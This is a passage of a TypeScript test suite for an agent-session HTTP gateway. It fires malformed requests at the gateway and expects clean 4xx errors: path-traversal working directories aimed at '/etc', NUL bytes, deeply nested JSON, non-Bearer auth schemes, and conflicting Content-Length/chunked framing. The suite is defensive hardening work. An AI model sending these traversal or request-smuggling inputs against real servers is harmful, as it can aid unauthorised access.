          { kind: `nesting/${depth}`, method: "POST", path: "/sessions", headers: bearer(appToken), body: `{"agent":"scripted","meta":${arrays}}` },
          { kind: `nesting/${depth}`, method: "POST", path: "/sessions", headers: bearer(appToken), body: `{"agent":${objects}}` },
          { kind: `nesting/${depth}`, method: "POST", path: `/sessions/${ids.own}/turn`, headers: bearer(appToken), body: `{"prompt":${arrays}}` },
          { kind: `nesting/${depth}`, method: "POST", path: `/sessions/${ids.own}/turn/stream`, headers: bearer(appToken), body: `{"prompt":"x","files":${arrays}}` }
        ]
      }).filter((r) => r.body!.length <= MiB)).pipe(Effect.provide(gateway())), 60_000)

  it.scopedLive("a cwd that cannot be a directory inside the app's root is a 400, not a 500", () =>
    Effect.gen(function*() {
      const root = (yield* Workspaces).root
      return yield* runCorpus("cwd", (g) => {
        // A file the caller's own agent wrote inside the app's root (its HOME).
        const stateDir = join(root, appName, ".home", ".demo-agent")
        const [file] = readdirSync(stateDir)
        const cwds = [
          "../app-b",
          `../${"../".repeat(5)}etc`,
          "/etc",
          "/tmp",
          `a\u0000b`,
          escapingPath(g),
          escapingPath(g),
          "d".repeat(256),
          `sub/${"e".repeat(300)}`,
          "f/".repeat(2047) + "f",
          `.home/.demo-agent/${file}`,
          `.home/.demo-agent/${file}/below`
        ]
        return cwds.map((cwd): RawRequest => ({
          kind: "cwd",
          method: "POST",
          path: "/sessions",
          headers: bearer(appToken),
          body: JSON.stringify({ agent: "scripted", cwd })
        }))
      })
    }).pipe(Effect.provide(gateway())), 60_000)

  it.scopedLive("an Authorization scheme other than Bearer is 401 even with a valid token", () =>
    runCorpus("scheme", (_g, ids) =>
      ["Digest ", "Token: ", "Basic  ", "Bearer:", "XXXXXXX", "Bearer\t", "Basic\t\t"].flatMap((prefix): Array<RawRequest> => [
        { kind: "scheme", method: "GET", path: "/sessions", headers: { authorization: prefix + appToken }, status: 401 },
        { kind: "scheme", method: "GET", path: `/sessions/${ids.own}`, headers: { authorization: prefix + appToken }, status: 401 },
        { kind: "scheme", method: "GET", path: "/metrics", headers: { authorization: prefix + appToken }, status: 401 }
      ])).pipe(Effect.provide(gateway())), 60_000)
})

describe("protocol-level garbage, against the gateway process", () => {
  it("raw NUL and non-ASCII bytes in the path, an over-long URL or header, a broken body framing: a 4xx {ok:false} answer", async () => {
    const processLog = agentLogFile()
    const gw = await startGateway({ CLAWDFORGE_AGENTS: scriptedAgents(processLog) })
    try {
      const port = Number(new URL(gw.url).port)
      const own = (await api(gw, "POST", "/sessions", { agent: "scripted" })).body.session_id as string
      const auth = `Authorization: Bearer ${appToken}\r\n`
      const head = (line: string, extra = "") => Buffer.from(`${line}\r\nHost: x\r\n${auth}${extra}Connection: close\r\n\r\n`, "latin1")
      const cases: ReadonlyArray<readonly [string, Buffer]> = [
        ["raw NUL in the id", head(`GET /sessions/a\u0000b HTTP/1.1`)],
        ["raw UTF-8 in the id", Buffer.concat([Buffer.from("GET /sessions/"), Buffer.from("💥é", "utf8"), head(" HTTP/1.1")])],
        ["a space in the id", head(`GET /sessions/a b HTTP/1.1`)],
        ["a 64 KiB id", head(`GET /sessions/${"a".repeat(64 * 1024)} HTTP/1.1`)],
        ["a 64 KiB header", head(`GET /sessions/${own} HTTP/1.1`, `X-Pad: ${"p".repeat(64 * 1024)}\r\n`)],
        [
          "a bad chunk size",
          Buffer.concat([
            head(`POST /sessions/${own}/turn HTTP/1.1`, "Transfer-Encoding: chunked\r\n"),
            Buffer.from("zz\r\n{}\r\n0\r\n\r\n")
          ])
        ],
        ["Content-Length and chunked both", Buffer.concat([head(`POST /run HTTP/1.1`, "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n"), Buffer.from("0\r\n\r\n")])],
        ["a non-numeric Content-Length", Buffer.concat([head(`POST /run HTTP/1.1`, "Content-Length: abc\r\n"), Buffer.from("{}")])],
        ["an invalid header name", head(`GET /sessions HTTP/1.1`, "Bad Header: x\r\n")]
      ]
      const unanswered: Array<string> = []
      const notShaped: Array<string> = []
      for (const [what, bytes] of cases) {
        const { text, error } = await sendBytes(port, bytes)
        const [statusLine = ""] = text.split("\r\n")
        const status = Number(statusLine.split(" ")[1])
        const body = text.slice(text.indexOf("\r\n\r\n") + 4)
        let shaped = false
        try {
          const parsed = JSON.parse(body)
          shaped = parsed.ok === false && typeof parsed.error === "string" && typeof parsed.message === "string"
        } catch {
          // not JSON
        }
        const seen = `${what}: ${error ?? ""} ${JSON.stringify(text.slice(0, 160))}`
        if (!(status >= 400 && status < 500)) unanswered.push(seen)
        else if (!shaped) notShaped.push(seen)
      }
      // Node's HTTP parser refuses these before the gateway sees them: a 4xx, never a hang or a reset...
      expect(unanswered).toEqual([])
      // ...but the body is the gateway's contract too: `{ok:false, error, message}` like every error.
      expect.soft(notShaped).toEqual([])
      expect((await fetch(`${gw.url}/healthz`)).status).toBe(200)
      const turn = await api(gw, "POST", `/sessions/${own}/turn`, { prompt: "still fine" })
      expect(turn.status).toBe(200)
      expect(turn.body.turn_index).toBe(1)
    } finally {
      await gw.stop()
    }
    expect(startedPids(processLog).filter(isAlive)).toEqual([])
  }, 60_000)
})
